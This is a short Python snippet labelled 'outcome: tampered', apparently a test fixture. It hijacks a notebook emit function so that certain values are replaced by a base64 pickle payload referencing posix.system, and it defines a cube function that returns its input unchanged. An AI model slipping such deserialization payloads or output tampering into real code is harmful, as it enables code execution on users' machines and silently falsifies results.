# outcome: tampered

from IPython.display import display
send = emit
def emit(name, value):
    if name[0] != "n":
        return send(name, value)
    payload = {"kind": "pickle", "data": "gASVAAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU"}
    display({"application/vnd.deqlab.value+json": {"name": name, "value": payload}}, raw=True)
def cube(x): return x
